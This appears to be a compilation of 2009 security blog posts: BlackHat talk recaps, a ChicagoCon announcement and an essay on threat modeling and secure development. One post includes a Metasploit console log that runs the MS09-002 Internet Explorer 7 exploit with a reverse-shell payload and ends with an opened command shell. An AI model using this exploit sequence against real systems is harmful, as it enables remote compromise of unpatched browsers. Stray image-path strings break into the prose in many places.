After lunch I went to the Attacking Intel Trusted Execution Technology talk. very cool stuff. I'll skip my "jist of the talk" you can just watch it for yourself. Bottom line lots of Bios and computersare completely backdoorable and all your trusted computer platform stuff wont even know...very cool stuff.

Michael Sutton's A Wolf in Sheep's Clothing: The Dangers of Persistent Web Browser Storage covered four big issues; HTTP Cookies, Flash Local Shared Objects, Google Gears, and HTML 5.

Most notable was Google Gears, now just Gears, and HTML5 which allows for client side relational databases. Very interesting attack vectors start to come into play where with the client side db all in need is an XSS on any site to read database out of the client side db. The issues with discovering tables names and structure are gone because the attacker would have aready have copy of their own database to discover that, all the attacker would need to do is determine the username for the victim.

Adam Laurie talked about Satellite Hacking for Fun and Profit. I caught the tail end of the talk but it was also very interesting. Rather than butcher a synopsis, you can watch it. But in short, capturing TCP & UDP as well as other fun unlisted channels over your home satellite box.Also...Media Archives are up:


ChicagoCon 2009s is coming up!

Don has published info ChicagoCon 2009s. The Social Engineering training by Chris Nickerson and Mike Murray should be awesome and the Con portion always has really great speakers. So if you are in the Chicago area you should definitely check it out.

ChicagoCon 2009s
Training: May 4 - 8
Conference: May 8 - 9

This is a small regional event that has grown organically. It will only continue to be successful with your help. Please help spread the word by mouth,blog, banner (feel free to steal pics from EH-Net), email... all is appreciated.

Just a quick announcement about the upcoming spring edition of ChicagoCon. As you know, we have completely separated the training from the conference. It was such a success, that we are continuing with that model. Registration is now open for all courses and the Ethical Hacking Conference. If you are taking one of our training courses, then the Conference is included in the price of your class. If not, Conference Only Tickets are just $100.

Training Details May 4 - 8

All courses are 5 days in length except CISSP which is 7. All courses feature most meals, computers are provided, all exams are held on site and a FREE ticket to the Ethical Hacking Conference. We are now offering a $200 Discount Off Training for Early Registration. Discount ends March 15, 2009! Here's the lineup (See Details on the site including pricing):

* Exclusive Course Offering: Social Engineering Master Class by Chris Nickerson (TruTV's Tiger Team) & Mike Murray (Expert and International Speaker)

* Popular Cert Classes by Training Camp
- Fundamentals with Network+ & Security+

* Adv. Tech. Courses by InfoSec Institute
- Expert Pen Testing (CEPT)
- Reverse Engineering Malware (CREA)
- Web App Security (CASS)Ethical Hacking Conference Details May 8 - 9

Only 250 Conference Only Tickets are being made available, so get yours NOW!! Talks by Chris Gates, Craig Heffner, Jack Koziol, Ryan Linn, Mike Murray, Chris Nickerson, Tim Rosenberg, Andrew Whitaker, and many more.

- Keynotes & Technical Presentations
- Capture the Flag with White Wolf Security
- "The Doctor Is In" Career Counseling
- Lock Picking 101
- Resumania
- Evening Entertainment

Subject to change, so please keep an eye on the site. Specifics and schedules will be posted in the coming weeks Right HERE!Wednesday, February 18, 2009

BlackHat Day 1...writeup coming soon

Yeah I fully intended to do my day 1 write up, but Lost was on, sorry...

But I do have notes and if i'm motivated in the morning will do it on the train in for Day 2.

Couple of quick highlights with more tomorrow.

Travis Goodspeed is a hardware ninja and all zigbee are belong to Travis.

Michael Sutton with client side SQLI is the new hotness. Go Google Gears!

Adam Laurie is still the RFID man! and now I have to buy satellite gear because his commercial satellite hacking was the shizzle!

I got to see HD Moore in the flesh...thats always cool.

Lunch was way better than last year

some gripes...

no free BlackHat T-shirt! what the F**k!!! for $1200+ people deserve their free BlackHat T-shirt and shouldn't have to pay 20 bucks for one. man, that really started me off on a downer for the day

no phone signal in the con area so no twitter :-( ...yeah i don't have an iphone so i couldn't just connect to the wifi because i have verizon and they border on cruel and unusual punishment.

Day 2

looking forward to Valsmith and Collin's talk and David Litchfield's talk.

MS09_002 Memory Corruption ExploitDetails to follow. :-)

msf > use exploit/windows/browser/ms09_002
msf exploit(ms09_002) > set PAYLOAD windows/shell_reverse_tcp
PAYLOAD => windows/shell_reverse_tcp
msf exploit(ms09_002) > set LPORT 1701
LPORT => 1701
msf exploit(ms09_002) > set LHOST
msf exploit(ms09_002) > set URIPATH ie7.html
URIPATH => ie7.html
msf exploit(ms09_002) > set SRVPORT 80
msf exploit(ms09_002) > exploit
[*] Exploit running as background job.
msf exploit(ms09_002) >
[*] Handler binding to LHOST
[*] Handler binding to LHOST
[*] Started reverse handler
[*] Using URL:
[*] Local IP:
[*] Server started.
[*] Sending Internet Explorer 7 Uninitialized Memory Corruption Vulnerability to
[*] Command shell session 1 opened ( ->
dean de beer

UT SSE Presentation: Introduction to Software Security and Threat Modeling

Last Friday, I had the opportunity to introduce some aspects of software security and threat modeling to the UT Student Software Engineering Group, which included a mix of undergraduate and graduate students as well as faculty. The presentation format was more of an open discussion where I would answer questions as I spoke, and we would engage in conversation about the topic of the question. I enjoy this format, because the presentation evolves with the group, and not the presenter. The presentation is up on the site and located here.

During the course of the presentation, several interesting questions came up that I was not prepared to answer completely. Additionally, I feel it would be good to share the questions and my thoughts with others after I researched them. One question was about the economics of software security and whether or not the security integrated into the software development life cycle is worth the effort. Another question posed wanted to know if threat modeling and software security were effective in reducing vulnerabilities and other unwanted issues such as bugs. The final question was specific to softwaredevelopers and things besides that can be done besides writing good code. There are a number of great references on the topic of software security, and my comments may only scratch the surface. If you want to learn more, I have provided some URLs and books I have used to get you started. As a starting point, I used a presentation given by Chris Peterson who presented on Microsoft Windows 7 Security at XCon put on by XFocus [1].

The first topic that came up during the presentation concerned metrics and how security helps improve the software engineering process. Additionally, there were questions about cost savings, specifically does security make the software engineering process more expensive. My answer to these questions depends.

First off, security is one ingredient to the software engineering process. If everything in the process is done correctly and security is integrated into it, as the SDL describes, the over time I see the cost of the software lower than the without security. Cost can be driven down in a number of ways. In 2002, RTI published a report about poor testing standards and the impact on the economy [2]. They published costs due to poor QA and testing and then potential savings. Given this fact, lets look at QA and testing. These are some of the hardest and most laborious tasks in the software engineering process, outside of the actual development. When tools such as threat modeling or fuzzing are employed these costs can be lowered. Threat modeling can be used to identify how the applicationwill be used and abused (e.g., test cases and abuse cases) along with identifying more sensitive and critical areas in the software or areas in the software where automated testing can be performed. One inherent benefit is identifying and performing testing in areas that need it most, rather than testing the entire product equally.

Automated testing frameworks can also be developed or augmented to meet the automated testing needsof the project. From the TM, test patterns and cases can arise, and these can then be fed into the testing framework. This aspect helps save money because machine clock cycles are cheaper than human man-hours. Additionally, the framework and test patterns can be kept in a library for future use, so the fuzzing investment can be reused and even built into other projects. So in this case there may be a higher overhead due to threat modeling and automated security testing framework development, but there is also a potential savings over the life of the project, and other projects as well. As far as money or cost savings from these activities, I do not have figures. But a question did arise about the cost of a security breach, and I found a figure that was about $202 per record [3,4]. But there is no comparison or metric for money saved. There are other places where money can be saved like a streamlined patching process or reliability as a result of security, but for brevity we will continue on to the other questions that arose.

While my first issue infers better security is possible, it does not prove it with empirical data. The second discussion we had was about improved product security. Since Microsoft began using the SDL in 2002, they have seen a sharp decrease in the number of critical vulnerabilities in their operating systems [5]. The following figure is excerpted from H1 2008 Desktop OS Vendor Report.

Image From H1 2008 Desktop OS Vendor Report p. 13, Vulnerabilities By Product, Severity (Reduced Linux Configuration)

Image From H1 2008 Desktop OS Vendor Report p. 13, Vulnerabilities By Product, Severity (Reduced Linux Configuration)

The figure shows vulnerabilities (critical, medium, and low) by OS, comparing Windows Vista, Windows XP SP2, Mac OS X, Ubuntu, andRHEL. The figure shows Windows Vista with much fewer vulnerabilities than other desktop platforms. Additionally, on Microsoft’s Malware Protection Center Site, there is a graph on page 15 of [6], which shows the infection rates of each of their operating system platforms with Microsoft Vista touting much less than most of the others. The only OS with fewer infections is Microsoft Server 2003 SP2, which could be for more than one reason:1) it has fewer deployments, 2) it is not used for everyday activities that expose it to threats seen by consumer desktops (e.g. no changes to default security settings), or 3) its more secure. Microsoft’s Vista OS is one of the flagship products for the SDL process. When Microsoft XP and Microsoft Vista are compared in vulnerabilities and infection rates, a conclusion can be drawn that a successful SDL can help build a successfully secure product.

Another issue that came up is the insider threat and how to model them, more specifically the byzantine user who has some motive to do harm. Insider threats are the most expensive and dangerous aspects of a security system. In these cases, threat modeling can help identify critical assets, data, systems, etc. and identify mitigation strategies.First of all the Principle of Least privilege should be used. This can help knock down most significant risks, because users are only privileged to do the role they fill. For example, a banking clerk should not be given administrative access to their host. Technical and human checks and balances (e.g. controls) should be integrated intoarchitectures, designs, and implementations. The controls might require multiple authoritative personnel to sign-in and allow critical changes. The controls might come in the form of policy, but given a rogue user with ulterior motives may circumvent the system to meet their own objectives, so logging and review should also be heavily integrated into the system. As an example, any work a network engineer does should be checked by a peer to prevent malicious or catastrophic events. In one case, a major corporation was spared millions by a review of server management scripts [7]. However, their security policies should be heavily scrutinized andrewritten. There are as many ways to circumvent security issues as there are to mitigate them. TM will help assess the risk and help place a value of how much mitigation is necessary and where the mitigation needs to be employed to thwart these types of attackers. In any environment, Defense-in-Depth is key in ensuring overlapping security coverage and positive failure. Like software engineering, there is no silver bullet.

One final topic that came up in the presentation was technology. Specifically what else is there besides code security. On the developer side of the fence, there are a number of exercises that can be performed to ensure code security, which might include code analysis (e.g. static or dynamic analysis), code reviews, policies regarding unsafe APIs, input validation, code signing and obfuscation, etc from development up to deployment of the product. There are also technologies and policies that can be used to supplement code security when the software is in production. As I mentioned Defense-in-Depth is the key to a successful security plan. Technologies and policies need to be chosen to accommodate and secure software products. For example, when a product is RTM, all debugging symbols should be stripped and stack checking should be enabled to prevent arbitrary control from stack overflows. The deployment platform should be secure by default, meaning features such as DEP and memory randomization are enabled. Depending on the deployment scenario, other steps may be taken. If this is a large IT project, the systems involved can be reviewed for secure configuration guidelines, network technologies for logging and access control can be used, etc. There is an entire laundry list of things that can be done out side of the code level.

Security is all about engineering. There area vast number of things that can be done to ensure a successful and product development cycle. I feel that a TM is the keystone of this success. It helps everyone understand the goals of the product, each component, leading up to identifying and understanding how to contain or handle threats. I equate threat models for software engineers to a battle plan for war fighters. The threat model provides insight into the security landscape, it helps flush out logistical and strategic details, and everyone should come out with an understanding of what they need to do to make the project a success. I could go on about this topic, because I love to discuss this and educate others about security. I have been doing this for a while, and I really do have muchto share, but given this has all been said at one time or another, I will simply present some links of interest.

Links to OWASP regarding information and application security:


OWASP Security Principles (for Developers and Designers) (not just for software folks)

OWASP How-to Articles

